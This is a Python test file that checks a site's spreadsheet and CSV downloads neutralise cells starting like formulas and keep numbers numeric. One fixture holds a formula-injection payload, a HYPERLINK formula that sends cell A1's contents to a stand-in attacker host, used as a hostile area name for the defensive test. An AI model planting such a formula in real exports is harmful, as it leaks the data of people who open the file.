"""Issue 11 item 2: downloads are safe to open in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from migration_profiles.render.spreadsheet_safe import csv_text, neutralise_formula, plain_number

from .output_site import YORK, build_site, downloads, rename_area

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"York")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-"])
def test_text_that_starts_like_a_formula_is_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", [3.5, -4.0, 0, 12, None, "York", "St Helens", "1,000"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralise_formula(value) == value


def test_negative_numbers_stay_numbers_in_csv():
    text = csv_text(["name", "value"], [["-minus", -4.0], ["York", 3.8000000000000003], ["Leeds", -0.0]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'-minus", "-4"] and rows[2] == ["York", "3.8"] and rows[3] == ["Leeds", "0"]
    assert plain_number(float("nan")) is None


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("formula-site")
    incoming = downloads(root)
    rename_area(incoming, YORK, FORMULA_NAME)
    return build_site(root, incoming)


def test_an_area_download_opens_the_name_as_text_and_keeps_its_numbers(site):
    """The area's spreadsheet; its CSV is made in the reader's browser from the area's JSON, in the
    layout of downloads.area_csv (the two compared in tests/test_browser_explore.py)."""
    book = openpyxl.load_workbook(site.site / "data" / "areas" / f"{YORK}.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    named = [cell.value for cell in cells if isinstance(cell.value, str) and FORMULA_NAME in cell.value]
    assert named and all(not value.startswith("=") for value in named)
    assert "'" + FORMULA_NAME in named  # where the name starts a cell, it is text, not a formula
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert numbers and any(value != 0 for value in numbers)  # figures stay numbers


def test_every_csv_the_site_offers_has_no_cell_starting_like_a_formula(site):
    files = list(site.site.rglob("*.csv"))
    assert files
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text())):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r"):
                    pytest.fail(f"{path.name}: cell {cell!r} starts like a formula")
                if cell.startswith("-"):
                    float(cell)  # a negative number is the only cell that may start with '-'
